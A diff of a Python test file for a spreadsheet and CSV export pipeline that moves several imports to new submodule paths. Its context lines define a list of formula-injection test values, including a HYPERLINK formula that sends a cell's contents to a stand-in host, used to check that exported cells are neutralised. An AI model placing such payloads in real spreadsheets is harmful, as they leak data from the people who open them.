@@ -16,11 +16,11 @@ import openpyxl
 import pytest
 
 from conftest import DATA_2024, ROOT, copy_registry, run_vanban
-from pipeline.export import ManifestEntry, manifest_files
-from pipeline.form import form_bytes
-from pipeline.indicators import Indicator
-from pipeline.registry import load_registry
-from pipeline.spreadsheet import FORMULA_STARTS, csv_cell, csv_text, starts_formula
+from pipeline.export.pdf import ManifestEntry, manifest_files
+from pipeline.results.form import form_bytes
+from pipeline.data.indicators import Indicator
+from pipeline.data.registry import load_registry
+from pipeline.common.spreadsheet import FORMULA_STARTS, csv_cell, csv_text, starts_formula
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1)",
            "＝1+1", "\t=1+1", "- Lưu"]
